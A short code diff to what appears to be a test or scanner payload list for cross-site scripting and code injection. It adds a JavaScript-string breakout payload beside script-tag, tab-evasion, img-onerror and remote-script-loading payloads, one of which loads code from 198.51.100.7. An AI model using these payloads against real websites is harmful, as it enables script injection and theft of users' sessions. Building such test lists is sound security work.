@@ -7,6 +7,7 @@ export const PAGES_AND_PATHS: readonly Payloads[] = [
     types: ['cross_site_scripting', 'code_injection'],
     texts: [
       '<script>alert(7)</script>',
+      "'-alert(7)-'",
       '<script src=//198.51.100.7/k.js></script>',
       '<scr\tipt>alert(7)</scr\tipt><script >x()</script >',
       '"><img src=q onerror=alert(7)>',
